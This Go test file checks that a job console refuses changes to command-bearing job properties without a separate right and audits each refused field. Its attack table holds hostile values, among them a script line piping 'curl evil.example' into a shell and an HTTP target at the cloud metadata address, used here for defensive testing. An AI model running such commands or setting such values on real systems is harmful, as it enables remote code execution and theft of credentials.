package config

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/elasticjob-go/elasticjob/internal/console/api"
	"github.com/elasticjob-go/elasticjob/internal/console/consoletest"
)

const scripted3x = `cron: 0/5 * * * * ?
jobName: j
props:
  dingtalk.webhook: https://robot.example/send?access_token=Canary-5
  http.uri: https://billing.example/run
  plain: value
  script.command.line: /bin/true
shardingTotalCount: 2
`

const scripted2x = `{"jobName":"old","jobClass":"","jobType":"SCRIPT","cron":"0/5 * * * * ?","shardingTotalCount":2,"scriptCommandLine":"/bin/true","jobProperties":{}}`

// putProps sends the job's configuration back with its props changed.
func putProps(t *testing.T, b consoletest.TreeBench, job string, change map[string]any) consoletest.Reply {
	t.Helper()
	var config map[string]any
	b.Call(t, http.MethodGet, "/api/jobs/config/"+job, "").Into(t, &config)
	if props, ok := config["props"].(map[string]any); ok {
		for key, value := range change {
			if value == nil {
				delete(props, key)
			} else {
				props[key] = value
			}
		}
	} else {
		for key, value := range change {
			config[key] = value
		}
	}
	body, err := json.Marshal(config)
	if err != nil {
		t.Fatal(err)
	}
	return b.Call(t, http.MethodPut, apiRoute, string(body))
}

// TestV21CommandsNeedARight: root's password alone doesn't run code on the agents. Commands and
// addresses stay as they are, and the audit names the properties of a refused change.
func TestV21CommandsNeedARight(t *testing.T) {
	consoletest.EachTree(t, consoletest.PlantedJob("j", scripted3x)+consoletest.PlantedJob("old", scripted2x), func(t *testing.T, b consoletest.TreeBench) {
		for name, attack := range map[string]map[string]any{
			"props.script.command.line": {"script.command.line": "/bin/sh -c 'curl evil.example | sh'"},
			"props.http.uri":            {"http.uri": "http://169.254.169.254/"},
			"props.http.method":         {"http.method": "DELETE"},
			"props.http.data":           {"http.data": "amount=1000000"},
			"props.dingtalk.webhook":    {"dingtalk.webhook": nil},
			"props.email.host":          {"email.host": "mail.evil.example"},
			"props.slack.webhookUrl":    {"slack.webhookUrl": "x"},
			"props.target":              {"target": "https://evil.example/"}, // by its value
			"props.runner.command":      {"runner.command": "rm"},
		} {
			r := putProps(t, b, "j", attack)
			consoletest.WantStatus(t, r, http.StatusForbidden)
			var answer api.ErrorBody
			r.Into(t, &answer)
			if answer.Code != "command_changes_off" || len(answer.Fields) != 1 || answer.Fields[0].Field != name || strings.Contains(r.Body, "Canary") {
				t.Errorf("%s: %s", name, r.Body)
			}
			if record := b.Settings.Written[len(b.Settings.Written)-1]; record.Outcome != "command_changes_off" || !strings.Contains(record.Detail, name) {
				t.Errorf("%s: record %+v", name, record)
			}
		}
		consoletest.WantStatus(t, putProps(t, b, "old", map[string]any{"scriptCommandLine": "/bin/false"}), http.StatusForbidden)
		if b.Node(t, "j/config") != scripted3x || b.Node(t, "old/config") != scripted2x {
			t.Errorf("something was stored: %s %s", b.Node(t, "j/config"), b.Node(t, "old/config"))
		}

		// Other properties can change, with the rest as it was stored.
		consoletest.WantStatus(t, putProps(t, b, "j", map[string]any{"plain": "other", "report.recipients": "ops"}), http.StatusNoContent)
		if record := b.Settings.Written[len(b.Settings.Written)-1]; !strings.Contains(record.Detail, "props.plain") || strings.Contains(record.Detail, "props.http") {
			t.Errorf("record %+v", record)
		}
		consoletest.WantStatus(t, putProps(t, b, "old", map[string]any{"cron": "0/7 * * * * ?"}), http.StatusNoContent)
		// The console has the right, not the account.
		b.Console.Options().CommandChanges = true
		consoletest.WantStatus(t, putProps(t, b, "j", map[string]any{"script.command.line": "/bin/false"}), http.StatusNoContent)
		if record := b.Settings.Written[len(b.Settings.Written)-1]; !strings.Contains(record.Detail, "props.script.command.line") || strings.Contains(record.Detail, "/bin/false") {
			t.Errorf("record %+v", record)
		}
	})
}
